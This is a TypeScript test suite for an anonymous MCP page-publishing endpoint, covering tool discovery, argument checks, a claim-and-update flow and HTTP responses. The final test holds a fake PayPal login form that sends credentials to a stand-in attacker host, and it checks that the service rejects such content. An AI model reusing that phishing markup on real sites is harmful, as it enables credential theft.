/** First contact over MCP: a page without an account, over both protocol generations, and how it is kept and updated. */
import { createMCPClient } from '@ai-sdk/mcp'
import { StreamableHTTPClientTransport as NewTransport, type Client as NewClient } from '@modelcontextprotocol/client'
import { Client as OldClient } from '@modelcontextprotocol/sdk/client/index.js'
import { StreamableHTTPClientTransport as OldTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
import { countTokens } from 'gpt-tokenizer'
import { beforeAll, describe, expect, test } from 'vitest'
import { newClient, type Era } from '../support/mcp-client.ts'
import { signedInPerson, webFetch } from '../support/oauth-client.ts'
import { sharedStack, type Stack } from '../support/stack.ts'

const TOOL = 'service_publish_page'

let stack: Stack
let address: URL

beforeAll(async () => {
  stack = await sharedStack()
  address = new URL(`${stack.baseUrl}/mcp/anonymous`)
})

async function connect(era: Era): Promise<NewClient> {
  const client = newClient(era)
  await client.connect(new NewTransport(address, { fetch: webFetch(stack) }))
  return client
}

interface Page {
  readonly url: string
  readonly claim_url: string
  readonly expires_at: string
  readonly keep: string
}

const visit = async (url: string) => (await stack.fetch(url)).text()

describe.each<Era>(['legacy', 'modern'])('a client of the %s era', (era) => {
  test('finds one tool for at most 500 tokens, and publishes a page that a visitor sees', async () => {
    const client = await connect(era)
    const { tools } = await client.listTools()
    expect(tools.map(({ name }) => name)).toEqual([TOOL])
    expect(tools[0]?.annotations).toMatchObject({ readOnlyHint: false, destructiveHint: false, openWorldHint: true })
    expect(tools[0]?.title).toBeTruthy()
    expect(countTokens(JSON.stringify({ tools }))).toBeLessThanOrEqual(500)

    const result = await client.callTool({ name: TOOL, arguments: { content: '# Hi\n\nFrom an agent.', title: 'Hi' } })
    const page = result.structuredContent as unknown as Page
    expect(Object.keys(page).toSorted()).toEqual(['claim_url', 'expires_at', 'keep', 'url'])
    expect(await visit(page.url)).toContain('From an agent.')
    expect(page.keep).toContain(page.claim_url)
    expect(page.keep).toContain(`${stack.baseUrl}/mcp`)
    expect(Date.parse(page.expires_at)).toBeGreaterThan(0)
    await client.close()
  })

  test('any other tool is an error that names /mcp', async () => {
    const client = await connect(era)
    await expect(client.callTool({ name: 'service_list', arguments: {} })).rejects.toThrow(`${stack.baseUrl}/mcp`)
    await client.close()
  })

  test.each([
    ['slug', { content: 'x', slug: 'mine' }],
    ['id', { content: 'x', id: 'st_1' }],
    ['no content', {}],
    ['a format that is none', { content: 'x', format: 'pdf' }],
  ])('refused in words: %s', async (_what, args) => {
    const client = await connect(era)
    const result = await client.callTool({ name: TOOL, arguments: args })
    expect(result.isError).toBe(true)
    expect((result.content[0] as { text: string }).text).toMatch(/^invalid_request: /)
    await client.close()
  })
})

test('a client of the first SDK and the AI SDK publish too', async () => {
  const old = new OldClient({ name: 'sdk-1', version: '1' })
  await old.connect(new OldTransport(address, { fetch: webFetch(stack) }) as never)
  await old.ping()
  const first = await old.callTool({ name: TOOL, arguments: { content: '<h1>From 1.x</h1>' } })
  expect(await visit((first.structuredContent as unknown as Page).url)).toContain('<h1>From 1.x</h1>')
  await old.close()

  const ai = await createMCPClient({ transport: new OldTransport(address, { fetch: webFetch(stack) }) as never })
  const { [TOOL]: tool } = await ai.tools()
  const second = (await tool?.execute?.({ content: '# AI SDK' }, { toolCallId: '1', messages: [] })) as {
    structuredContent: Page
  }
  expect(await visit(second.structuredContent.url)).toContain('AI SDK')
  await ai.close()
})

test('an agent that knows only the address publishes; a person claims with a click; the agent updates it: six requests', async () => {
  let requests = 0
  const counted: typeof fetch = (...request) => {
    requests++
    return webFetch(stack)(...request)
  }
  const agent = newClient('modern')
  await agent.connect(new NewTransport(address, { fetch: counted }))
  const published = await agent.callTool({ name: TOOL, arguments: { content: '<h1>Draft</h1>' } })
  const { url, claim_url } = published.structuredContent as unknown as Page

  const person = await signedInPerson(stack)
  const { search } = new URL(claim_url)
  // Two requests of the person: the page behind the link, and its button.
  const claimed = await person.browser.send(`/claim${search}`, {}, '/claim')
  expect(claimed.status).toBe(303)
  requests += 2

  const signedIn = newClient('modern')
  const authProvider = { token: async () => person.account.token }
  await signedIn.connect(new NewTransport(new URL(`${stack.baseUrl}/mcp`), { authProvider, fetch: counted }))
  const slug = new URL(url).hostname.split('.')[0]
  const updated = await signedIn.callTool({ name: 'service_publish', arguments: { slug, content: '<h1>Final</h1>' } })
  expect(updated.isError).toBeFalsy()
  expect(requests).toBeLessThanOrEqual(6)
  expect(await visit(url)).toContain('<h1>Final</h1>')
})

describe('the address itself', () => {
  const post = (json: unknown, headers: Record<string, string> = {}) =>
    stack.fetch('/mcp/anonymous', { json, headers: { 'mcp-protocol-version': '2025-11-25', ...headers } })
  const ping = { jsonrpc: '2.0', id: 1, method: 'ping' }

  test('answers ping and takes notifications, with and without Accept', async () => {
    expect((await post(ping)).status).toBe(200)
    expect((await post(ping, { accept: 'application/json, text/event-stream' })).status).toBe(200)
    expect((await post({ jsonrpc: '2.0', method: 'notifications/initialized' })).status).toBe(202)
  })

  test.each(['GET', 'DELETE'])('%s is 405 in words', async (method) => {
    const answer = await stack.fetch('/mcp/anonymous', { method })
    expect([answer.status, answer.header('allow'), answer.json<{ error: string }>().error]).toEqual([
      405,
      'POST',
      'method_not_allowed',
    ])
  })

  test('a token is checked: a wrong one is refused, a right one changes nothing', async () => {
    const wrong = await post(ping, { authorization: 'Bearer dw_wrong' })
    expect([wrong.status, wrong.header('www-authenticate')]).toEqual([401, 'Bearer error="invalid_token"'])
    const { token } = await stack.createAccount('free')
    expect((await post(ping, { authorization: `Bearer ${token}` })).status).toBe(200)
  })

  test('nothing there asks for a sign-in, and /mcp still does', async () => {
    expect((await stack.fetch('/.well-known/oauth-protected-resource/mcp/anonymous')).status).toBe(404)
    expect((await stack.fetch('/mcp', { json: ping })).status).toBe(401)
  })

  test('a page that imitates a bank is refused, and the refusal says where to sign in', async () => {
    const content =
      '<title>PayPal - Log in</title><h1>PayPal</h1><form action="https://evil.example/x"><input type="email" name="email"><input type="password" name="password"></form>'
    const answer = await post({
      jsonrpc: '2.0',
      id: 1,
      method: 'tools/call',
      params: { name: TOOL, arguments: { content } },
    })
    expect(answer.text()).toContain('content_rejected')
    expect(answer.text()).toContain(`${stack.baseUrl}/mcp`)
  })
})
